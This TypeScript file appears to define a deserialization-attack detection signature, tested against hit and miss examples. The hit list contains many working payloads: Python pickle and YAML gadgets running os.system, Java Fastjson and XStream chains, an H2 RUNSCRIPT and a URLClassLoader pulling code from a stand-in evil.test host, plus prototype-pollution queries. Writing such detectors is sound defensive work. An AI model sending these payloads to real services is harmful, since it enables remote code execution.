import { hasAny, marksOf, type Reading } from '../readings/reading.ts';
import { binaryStream } from '../serialized/binary-streams.ts';
import { textFormat } from '../serialized/text-formats.ts';
import type { Finding, Signature } from '../signature.ts';

const STRUCTURE = marksOf('"\'{<!;=');
const SHORTEST = 6;

/** Serialized objects of a programming language where an application expects data. */
export const deserialization: Signature = {
  type: 'deserialization',
  mitre: 'T1190',
  impact: [30, 40],
  examples: {
    hits: [
      '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]',
      '{"@type":"L/com.sun.rowset.JdbcRowSetImpl;"}',
      'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
      'aced0005737200116a6176612e7574696c',
      'O:8:"stdClass":1:{s:1:"a";i:1;}',
      'a:1:{i:0;O:10:"\\Foo\\Bar":0:{}}',
      'AAEAAAD/////AQAAAAAAAAAMAgAAAFdT',
      "cos\nsystem\n(S'id'\ntR.",
      "cposix\\nsystem\\n(S'id'\\ntR.",
      'gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU',
      '!!python/object/apply:os.system ["id"]',
      '--- !ruby/object:Gem::Installer\ni: x',
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.test/"]]]]',
      '{"rce":"_$$ND_FUNC$$_function(){return 1}()"}',
      {
        body: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://evil.test/a"}',
        contentType: 'application/json',
      },
      {
        body: '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
        contentType: 'application/json',
      },
      { query: '__proto__[admin]=1' },
      { body: `{"['__proto__']":{"admin":true}}`, contentType: 'application/json' },
      { query: 'config[__construct()][0]=x' },
      { query: 'class.module.classLoader.resources=x' },
      { body: '{"a":{"__proto__":{"admin":true}}}', contentType: 'application/json' },
      'javax.script.ScriptEngineManager',
      'org.apache.commons.collections.functors.InvokerTransformer',
      { body: '{"constructor":{"prototype":{"admin":true}}}', contentType: 'application/json' },
      { query: '__pro__proto__to__[admin]=1' },
      { query: '__class__.__qualname__=x' },
      { query: '_SESSION[admin]=1' },
      'a:2:{s:4:"user";b:1;s:4:"pass";b:1;}',
      "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.test/a.sql'",
      '<root type="System.Windows.Data.ObjectDataProvider"/>',
      '{"json_class":"Gem::Installer"}',
      { body: '{"^o":"Gem::Installer"}', contentType: 'application/json' },
      '__proto__.isAdmin',
      'a/constructor/prototype/isAdmin',
      { body: '{"__init__":{"__globals__":{"key":"x"}}}', contentType: 'application/json' },
      '<map><groovy.util.Expando/></map>',
      '80049525000000000000008c05706f736978948c0673797374656d9493',
      { query: 'url=jdbc:derby:memory:a%3Bcreate%3Dtrue' },
      'jdbc:derby:a;startMaster=true;slaveHost=203.0.113.9',
      "(lp0\nS'a'\np1\nacos\nsystem\n(S'id'\ntR.",
      '<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>',
      'H4sIAAAAAAAAAFvzloG1uIhBPyuxLFEvpzQxJ1UvOT+3oCi1uDgzP88qsSQzP08vOSezNK8EAF1Cb5gqAAAA',
      'gAN9cQBYBAAAAG5hbWVxAVgBAAAAYXECcy4=',
      { body: '{"py/object":"__main__.Job","cmd":"x"}', contentType: 'application/json' },
      { query: 'xml=<bean class="java.lang.ProcessBuilder"/>' },
      { body: '{"x":{"__js_function":"return 1"}}', contentType: 'application/json' },
      { query: 'user.class.classLoader.x=1&class[classLoader]=1' },
      '<tree-map><entry><dynamic-proxy/></entry></tree-map>',
    ],
    misses: [
      { query: '_sort=a&global[x]=1&session[id]=2' },
      'a:2:{s:1:"a";i:1;s:1:"b";i:2;}',
      { query: '__VIEWSTATE=%2FwEPDwUKMTY1NDU2MTA1MmRk' },
      { body: '{"@type":"Person","@context":"https://schema.org"}', contentType: 'application/json' },
      { body: '{"$type":"Shop.Orders.Order, Shop.Orders","id":"1"}', contentType: 'application/json' },
      'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln',
      'at java.lang.Runtime.exec(Runtime.java:620)',
      'Wow!! really, O:8 or so',
      'java.lang.RuntimeException',
      'What is __proto__ in JavaScript?',
      'Array.prototype.map',
      'index: !!python/name:material.extensions.emoji.twemoji',
      { query: 'class=wide&constructor=ferrari&prototype=1' },
      '10:30:{open}',
      { body: '{"constructor":{"name":"Ferrari"},"prototype":{"id":1}}', contentType: 'application/json' },
      'jdbc:postgresql://db.example.org:5432/shop?sslmode=require',
      'Transformer',
    ],
  },
  couldMatch: () => true,
  match(reading: Reading): Finding | null {
    if (reading.text.length < SHORTEST) return null;
    // A plain address, which most strings of a webhook are, carries its parameters as leaves of their own.
    if (!hasAny(reading, STRUCTURE) && reading.text.startsWith('http')) return null;
    return binaryStream(reading) ?? textFormat(reading);
  },
};
